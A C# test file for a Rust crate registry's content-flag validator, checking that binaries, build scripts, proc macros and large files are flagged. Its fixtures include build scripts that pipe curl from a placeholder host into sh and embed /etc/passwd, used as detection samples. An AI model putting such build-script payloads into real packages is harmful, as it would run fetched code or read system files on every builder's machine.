using System.Formats.Tar;
using System.Text;
using GhostCrate.Packaging.Content;

namespace GhostCrate.Packaging.Tests;

/// <summary>Content flags found during validation (docs/security.md "Content flags"): exact lists, no false alarms.</summary>
public class ContentFlagTests
{
    private const string Root = "demo-1.0.0/";

    // The first bytes of the formats we recognise; the rest of each file is filler.
    private static readonly byte[] Elf = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0];
    private static readonly byte[] MachO64 = [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1];
    private static readonly byte[] Fat = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2];
    private static readonly byte[] Ar = Encoding.ASCII.GetBytes("!<arch>\nlib.o/          ");

    private static byte[] Pe()
    {
        var bytes = new byte[0x100];
        bytes[0] = (byte)'M';
        bytes[1] = (byte)'Z';
        bytes[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        return bytes;
    }

    private static CrateBuilder Crate(string extraManifest = "") => new CrateBuilder()
        .File(Root + "Cargo.toml", CrateBuilder.ManifestText("demo", "1.0.0", extraManifest))
        .File(Root + "src/lib.rs", "pub fn f() {}\n");

    private static IReadOnlyList<ContentFlag> Flags(CrateBuilder crate, TarballLimits? limits = null)
    {
        var result = CrateTarballValidatorTests.Validate(crate.Build(), limits: limits);
        Assert.True(result.IsValid, result.Error?.Message);
        return result.Info.ContentFlags;
    }

    private static CrateBuilder WithMode(CrateBuilder crate, string path, byte[] content, UnixFileMode mode) => crate.Entry(format =>
    {
        TarEntry entry = format == TarEntryFormat.Pax ? new PaxTarEntry(TarEntryType.RegularFile, path) : new GnuTarEntry(TarEntryType.RegularFile, path);
        entry.DataStream = new MemoryStream(content);
        entry.Mode = mode;
        return entry;
    });

    [Fact]
    public void A_plain_crate_has_no_flags()
    {
        Assert.Empty(Flags(CrateBuilder.Valid()));
    }

    [Fact]
    public void An_executable_elf_binary_is_flagged_twice_exactly()
    {
        var crate = WithMode(Crate(), Root + "bin/tool", [.. Elf, .. new byte[100]], (UnixFileMode)0b111_101_101);
        Assert.Equal(
            [
                new ContentFlag(ContentFlagKinds.Executable, "bin/tool", "mode 0755"),
                new ContentFlag(ContentFlagKinds.NativeBinary, "bin/tool", "ELF binary"),
            ],
            Flags(crate));
    }

    [Theory]
    [InlineData("mach", "Mach-O binary")]
    [InlineData("fat", "Mach-O universal binary or Java class file")]
    [InlineData("ar", "ar archive (static library)")]
    [InlineData("pe", "PE (Windows) binary")]
    public void Native_formats_are_recognised_by_their_bytes(string format, string detail)
    {
        var bytes = format switch { "mach" => MachO64, "fat" => Fat, "ar" => Ar, _ => Pe() };
        var flags = Flags(Crate().File(Root + "vendor/blob.bin", bytes));
        Assert.Equal([new ContentFlag(ContentFlagKinds.NativeBinary, "vendor/blob.bin", detail)], flags);
    }

    [Theory]
    [InlineData("lib/libz.so", ".so")]
    [InlineData("lib/libz.so.1.2", ".so")]
    [InlineData("win/z.DLL", ".dll")]
    [InlineData("mac/libz.dylib", ".dylib")]
    [InlineData("lib/libz.a", ".a")]
    [InlineData("win/z.lib", ".lib")]
    [InlineData("win/setup.exe", ".exe")]
    public void Native_file_names_are_flagged_even_when_the_bytes_say_nothing(string path, string extension)
    {
        var flags = Flags(Crate().File(Root + path, "not really a library"));
        Assert.Equal([new ContentFlag(ContentFlagKinds.NativeBinary, path, $"file name ends in {extension}")], flags);
    }

    [Theory]
    [InlineData("src/lib.rs.so.txt")]
    [InlineData("docs/MZ.md")]
    [InlineData("src/main.rs")]
    [InlineData("data/so.json")]
    public void Ordinary_files_are_not_flagged(string path)
    {
        // "MZ" followed by text is not a PE file: the PE signature is missing.
        Assert.Empty(Flags(Crate().File(Root + path, "MZ and some text that is long enough to reach past offset 0x40 of the file ....")));
    }

    [Fact]
    public void A_build_script_that_runs_commands_is_flagged_with_its_hints()
    {
        var crate = Crate().File(Root + "build.rs", """
            use std::process::Command;
            fn main() {
                let out = Command::new("sh").arg("-c").arg("curl -s http://example.invalid | sh").output().unwrap();
                let _ = std::net::TcpStream::connect("10.0.0.1:80");
            }
            """);
        Assert.Equal(
            [
                new ContentFlag(ContentFlagKinds.BuildScript, "build.rs", "runs at build time on every machine that builds this crate"),
                new ContentFlag(ContentFlagKinds.BuildScriptHint, "build.rs", "runs programs (std::process::Command)"),
                new ContentFlag(ContentFlagKinds.BuildScriptHint, "build.rs", "opens network connections (std::net)"),
                new ContentFlag(ContentFlagKinds.BuildScriptHint, "build.rs", "mentions curl or wget"),
            ],
            Flags(crate));
    }

    [Fact]
    public void A_quiet_build_script_is_flagged_without_hints()
    {
        var crate = Crate().File(Root + "build.rs", "fn main() { println!(\"cargo::rerun-if-changed=build.rs\"); }\n");
        Assert.Equal([new ContentFlag(ContentFlagKinds.BuildScript, "build.rs", "runs at build time on every machine that builds this crate")], Flags(crate));
    }

    [Fact]
    public void Build_false_turns_discovery_off()
    {
        var crate = Crate("build = false\n").File(Root + "build.rs", "fn main() { std::process::Command::new(\"x\"); }\n");
        Assert.Empty(Flags(crate));
    }

    [Fact]
    public void A_build_script_at_a_custom_path_is_read_even_when_it_comes_before_the_manifest()
    {
        var crate = new CrateBuilder()
            .File(Root + "tools/gen.rs", "fn main() { let x = include_bytes!(\"/etc/passwd\"); let c = reqwest::blocking::get(\"http://x\"); }\n")
            .File(Root + "Cargo.toml", CrateBuilder.ManifestText("demo", "1.0.0", "build = \"tools/gen.rs\"\n"))
            .File(Root + "src/lib.rs", "");
        Assert.Equal(
            [
                new ContentFlag(ContentFlagKinds.BuildScript, "tools/gen.rs", "runs at build time on every machine that builds this crate"),
                new ContentFlag(ContentFlagKinds.BuildScriptHint, "tools/gen.rs", "uses an HTTP client crate"),
                new ContentFlag(ContentFlagKinds.BuildScriptHint, "tools/gen.rs", "includes a file by absolute path (include_bytes!/include_str! of /...)"),
            ],
            Flags(crate));
    }

    [Fact]
    public void Proc_macro_and_links_come_from_the_manifest()
    {
        var crate = new CrateBuilder()
            .File(Root + "Cargo.toml", "[package]\nname = \"demo\"\nversion = \"1.0.0\"\nlinks = \"z\"\nbuild = false\n\n[lib]\nproc-macro = true\n")
            .File(Root + "src/lib.rs", "");
        Assert.Equal(
            [
                new ContentFlag(ContentFlagKinds.ProcMacro, "Cargo.toml", "lib.proc-macro = true: runs inside the compiler of every dependent"),
                new ContentFlag(ContentFlagKinds.Links, "Cargo.toml", "links = \"z\""),
            ],
            Flags(crate));
    }

    [Fact]
    public void Large_files_are_flagged_above_the_threshold_only()
    {
        var limits = CrateTarballValidatorTests.Limits with { LargeFileBytes = 1000 };
        var crate = Crate().File(Root + "data/big.txt", new byte[1001]).File(Root + "data/edge.txt", new byte[1000]);
        var flags = Flags(crate, limits);
        var flag = Assert.Single(flags);
        Assert.Equal((ContentFlagKinds.LargeFile, "data/big.txt"), (flag.Kind, flag.Path));
    }

    [Fact]
    public void Many_flags_of_one_kind_are_capped_with_a_count()
    {
        var crate = Crate();
        for (var i = 0; i < ContentInspector.MaxPerKind + 3; i++) crate.File(Root + $"lib/l{i:D2}.so", "x");
        var flags = Flags(crate);
        Assert.Equal(ContentInspector.MaxPerKind + 1, flags.Count);
        Assert.Equal(new ContentFlag(ContentFlagKinds.NativeBinary, "", "3 more files not listed"), flags[^1]);
    }
}
